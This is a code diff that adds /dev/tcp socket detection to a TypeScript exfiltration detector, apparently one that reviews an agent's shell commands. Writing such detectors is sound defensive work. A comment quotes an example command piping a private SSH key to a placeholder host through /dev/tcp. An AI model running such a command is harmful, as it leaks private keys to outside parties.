@@ -137,6 +137,13 @@ function shellExfiltration(action: Extract<Action, { kind: 'shell' }>, analysis:
     const base = { callIndex: action.step.callIndex, excerpt: command.statement };
     const inline = inlineUpload(command);
     if (inline) findings.push({ ...base, severity: inline.sensitive ? 'high' : 'medium', reason: `${command.name} code uploads ${inline.what}` });
+    // `cat ~/.ssh/id_rsa > /dev/tcp/host/80`: bash's own socket, whatever program writes into it.
+    const socket = command.redirects.flatMap((r) => (r.op.includes('>') ? (/^\/dev\/(?:tcp|udp)\/([^/]+)\//.exec(r.target)?.[1] ?? []) : [])).find((h) => !LOCAL_HOST.test(h));
+    if (socket !== undefined) {
+      const read = [...readsOf(command, home), ...command.pipeline.slice(0, command.pipeIndex).flatMap((c) => readsOf(c, home))].filter((r) => !/^\/dev\/(?:tcp|udp)\//.test(r.what));
+      const sent = read.find((r) => r.sensitive) ?? read[0];
+      if (sent) findings.push({ ...base, severity: sent.sensitive ? 'high' : 'medium', reason: `${command.name} sends ${sent.what} to ${socket} through /dev/tcp` });
+    }
     if (!NET_SENDERS.has(command.name)) continue;
     const hosts = destinations(command);
     const sent = hosts.length > 0 ? payload(command, home) : null;
